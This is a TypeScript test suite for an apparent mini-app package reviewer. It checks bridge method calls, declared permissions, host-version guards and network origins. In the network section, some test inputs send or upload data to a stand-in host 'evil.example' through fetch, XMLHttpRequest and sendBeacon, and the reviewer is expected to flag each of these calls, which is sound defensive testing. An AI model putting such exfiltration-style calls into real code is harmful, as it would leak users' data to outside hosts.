import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { baseManifest, positions, review, reviewScript } from './review-fixture.ts';

const withPayment = { ...baseManifest, permissions: { payment: { reason: 'Pay for orders.' } } };

describe('bridge usage [REV-114..REV-118]', () => {
  it('lists every literal call of a registered method with its location', async () => {
    const { usedMethods, diagnostics } = await reviewScript(
      "MiniAppBridge.call('storage.get', { key: 'a' });\nawait bridge.call(`host.canIUse`, {});\n",
    );
    assert.deepEqual(diagnostics, []);
    assert.deepEqual(usedMethods, [
      { name: 'storage.get', location: { file: 'app.js', line: 1, column: 20 } },
      { name: 'host.canIUse', location: { file: 'app.js', line: 2, column: 19 } },
    ]);
  });

  it('recognises calls through aliases, computed "call" and optional chaining', async () => {
    const { usedMethods } = await reviewScript(
      [
        'const b = MiniAppBridge;',
        "b.call('storage.get', {});",
        "MiniAppBridge['call']('storage.get', {});",
        "this.bridge?.call('storage.get', {});",
      ].join('\n'),
    );
    assert.deepEqual(
      usedMethods.map((m) => `${m.name}@${m.location.line}`),
      ['storage.get@2', 'storage.get@3', 'storage.get@4'],
    );
  });

  it('reports an unknown method on the bridge with the closest registered name [REV-114]', async () => {
    const { diagnostics } = await reviewScript("MiniAppBridge.call('payment.pya', {});\n");
    assert.deepEqual(positions(diagnostics), ['CODE_UNKNOWN_BRIDGE_METHOD@1:20']);
    assert.match(diagnostics[0]?.fix ?? '', /payment\.pay\b/);
  });

  it('reports a misspelt method of a known namespace even on an unrecognised receiver [REV-114]', async () => {
    const { diagnostics } = await reviewScript("api.call('storage.gte', {});\n");
    assert.deepEqual(positions(diagnostics), ['CODE_UNKNOWN_BRIDGE_METHOD@1:10']);
  });

  it('ignores Function.prototype.call and unrelated strings', async () => {
    const { diagnostics, usedMethods } = await reviewScript(
      [
        'fn.call(this, 1);',
        "handler.call('hello');",
        "greet.call('menu.title');",
        "// MiniAppBridge.call('payment.pay')",
        "const label = 'payment.pay';",
        "log('payment.pay');",
      ].join('\n'),
    );
    assert.deepEqual(diagnostics, []);
    assert.deepEqual(usedMethods, []);
  });

  it('warns when the bridge method name is computed [REV-115]', async () => {
    const { diagnostics } = await reviewScript('MiniAppBridge.call(name, {});\nfn.call(name);\n');
    assert.deepEqual(positions(diagnostics), ['CODE_DYNAMIC_BRIDGE_METHOD@1:20']);
    assert.equal(diagnostics[0]?.severity, 'warning');
  });

  it('does not count a `call` wrapper that forwards its own parameter as a use [REV-115]', async () => {
    const { diagnostics } = await reviewScript(
      [
        'const api = { call(method, params) { return ready.then((bridge) => bridge.call(method, params)); } };',
        'function invoke(method) { return MiniAppBridge.call(method, {}); }',
        'function call(other) { const method = other; return MiniAppBridge.call(method, {}); }',
      ].join('\n'),
    );
    // Only the wrappers that are not a forwarding `call` (or forward something else) are flagged.
    assert.deepEqual(positions(diagnostics), [
      'CODE_DYNAMIC_BRIDGE_METHOD@2:53',
      'CODE_DYNAMIC_BRIDGE_METHOD@3:72',
    ]);
  });

  it('reports a call that needs an undeclared permission, with the manifest fix [REV-116]', async () => {
    const { diagnostics } = await reviewScript("MiniAppBridge.call('location.getCurrent', {});\n");
    assert.deepEqual(positions(diagnostics), ['CODE_PERMISSION_NOT_DECLARED@1:20']);
    assert.match(diagnostics[0]?.fix ?? '', /"permissions": \{ "location"/);
  });

  it('accepts a call whose permission is declared, and warns on declared but unused ones [REV-117]', async () => {
    const manifest = {
      ...withPayment,
      permissions: { ...withPayment.permissions, camera: { reason: 'Scan codes.' } },
    };
    const { diagnostics } = await reviewScript(
      "MiniAppBridge.call('payment.pay', {});\n",
      manifest,
    );
    assert.equal(diagnostics.length, 1);
    assert.equal(diagnostics[0]?.code, 'CODE_PERMISSION_UNUSED');
    assert.equal(diagnostics[0]?.severity, 'warning');
    assert.deepEqual(diagnostics[0]?.location, {
      file: 'manifest.json',
      pointer: '/permissions/camera',
    });
  });

  it('reports a method newer than minHostVersion as an error when unguarded [REV-118]', async () => {
    const { diagnostics } = await reviewScript(
      "await MiniAppBridge.call('payment.checkEntitlement', {});\n",
    );
    assert.deepEqual(positions(diagnostics), ['CODE_METHOD_NEWER_THAN_MIN_HOST@1:26']);
    assert.equal(diagnostics[0]?.severity, 'error');
    assert.match(diagnostics[0]?.fix ?? '', /1\.2\.0/);
  });

  it('accepts a newer method once minHostVersion reaches its since', async () => {
    const { diagnostics } = await reviewScript(
      "MiniAppBridge.call('payment.checkEntitlement', {});\n",
      { ...baseManifest, minHostVersion: '1.2.0' },
    );
    assert.deepEqual(diagnostics, []);
  });

  it('downgrades a newer method to a warning inside every recognised canIUse guard', async () => {
    const guarded = [
      "if (MiniAppBridge.canIUse('payment.checkEntitlement')) { MiniAppBridge.call('payment.checkEntitlement', {}); }",
      "if (await bridge.canIUse('payment.checkEntitlement')) bridge.call('payment.checkEntitlement', {});",
      "if (ready && bridge.canIUse('payment.checkEntitlement')) bridge.call('payment.checkEntitlement', {});",
      "if (!bridge.canIUse('payment.checkEntitlement')) { fallback(); } else { bridge.call('payment.checkEntitlement', {}); }",
      "bridge.canIUse('payment.checkEntitlement') && bridge.call('payment.checkEntitlement', {});",
      "const r = bridge.canIUse('payment.checkEntitlement') ? bridge.call('payment.checkEntitlement', {}) : null;",
      "async function f() { if (!(await bridge.canIUse('payment.checkEntitlement'))) return; await bridge.call('payment.checkEntitlement', {}); }",
      "if ((await bridge.call('host.canIUse', { method: 'payment.checkEntitlement' })).available) bridge.call('payment.checkEntitlement', {});",
    ];
    for (const code of guarded) {
      const { diagnostics } = await reviewScript(code);
      const finding = diagnostics.filter((d) => d.code === 'CODE_METHOD_NEWER_THAN_MIN_HOST');
      assert.equal(finding.length, 1, code);
      assert.equal(finding[0]?.severity, 'warning', code);
    }
  });

  it('does not accept a guard for another method, or a call outside the guarded branch', async () => {
    const unguarded = [
      "if (bridge.canIUse('storage.get')) bridge.call('payment.checkEntitlement', {});",
      "if (bridge.canIUse('payment.checkEntitlement')) {} bridge.call('payment.checkEntitlement', {});",
      "if (bridge.canIUse('payment.checkEntitlement')) { a(); } else { bridge.call('payment.checkEntitlement', {}); }",
      "if (bridge.canIUse('payment.checkEntitlement') || x) bridge.call('payment.checkEntitlement', {});",
    ];
    for (const code of unguarded) {
      const { diagnostics } = await reviewScript(code);
      assert.deepEqual(
        diagnostics.map((d) => `${d.code}:${d.severity}`),
        ['CODE_METHOD_NEWER_THAN_MIN_HOST:error'],
        code,
      );
    }
  });

  it('collects used methods across files and pages for the package-wide permission rules', async () => {
    const { usedMethods, diagnostics } = await review(
      {
        'pages/pay.js': "MiniAppBridge.call('payment.pay', {});\n",
        'index.html': "<script>MiniAppBridge.call('payment.pay', {})</script>",
      },
      withPayment,
    );
    assert.deepEqual(diagnostics, []);
    assert.deepEqual(
      usedMethods.map((m) => m.location.file),
      ['index.html', 'pages/pay.js'],
    );
  });
});

describe('network targets [REV-119]', () => {
  it('reports fetch, WebSocket, EventSource, XMLHttpRequest.open and network.request to unlisted origins', async () => {
    const { diagnostics } = await reviewScript(
      [
        "fetch('https://tracker.example.net/p');",
        "new WebSocket('wss://ws.example.com/live');",
        "new EventSource('https://evil.example/stream');",
        "xhr.open('POST', 'https://evil.example/upload');",
        "MiniAppBridge.call('network.request', { url: 'https://evil.example/x', method: 'GET' });",
        "navigator.sendBeacon('https://evil.example/b', data);",
      ].join('\n'),
    );
    assert.deepEqual(positions(diagnostics), [
      'CODE_DOMAIN_NOT_ALLOWED@1:7',
      'CODE_DOMAIN_NOT_ALLOWED@2:15',
      'CODE_DOMAIN_NOT_ALLOWED@3:17',
      'CODE_DOMAIN_NOT_ALLOWED@4:18',
      'CODE_DOMAIN_NOT_ALLOWED@5:46',
      'CODE_DOMAIN_NOT_ALLOWED@6:22',
    ]);
  });

  it('accepts listed origins (default ports too), relative URLs and URLs it cannot know', async () => {
    const { diagnostics } = await reviewScript(
      [
        "fetch('https://api.example.com/v1/items');",
        "fetch('https://API.example.com:443/v1');",
        "new WebSocket('wss://ws.example.com:8443/live');",
        "fetch('/local/data.json');",
        'fetch(`https://api.example.com/items/${id}`);',
        "fetch('https://api.example.com/' + path);",
        'fetch(`https://${host}/x`);',
        'fetch(url);',
        "window.open('https://elsewhere.example/');",
      ].join('\n'),
    );
    assert.deepEqual(diagnostics, []);
  });

  it('reports plain http and ws even when the host is listed', async () => {
    const { diagnostics } = await reviewScript(
      "fetch('http://api.example.com/x');\nnew WebSocket('ws://ws.example.com:8443/');\n",
    );
    assert.deepEqual(positions(diagnostics), [
      'CODE_DOMAIN_NOT_ALLOWED@1:7',
      'CODE_DOMAIN_NOT_ALLOWED@2:15',
    ]);
  });

  it('reports a template or concatenation whose fixed part already names an unlisted origin', async () => {
    const { diagnostics } = await reviewScript(
      'fetch(`https://evil.example/${id}`);\nfetch("https://evil.example:444/" + id);\nfetch("//evil.example/x");\n',
    );
    assert.deepEqual(positions(diagnostics), [
      'CODE_DOMAIN_NOT_ALLOWED@1:7',
      'CODE_DOMAIN_NOT_ALLOWED@2:7',
      'CODE_DOMAIN_NOT_ALLOWED@3:7',
    ]);
  });
});
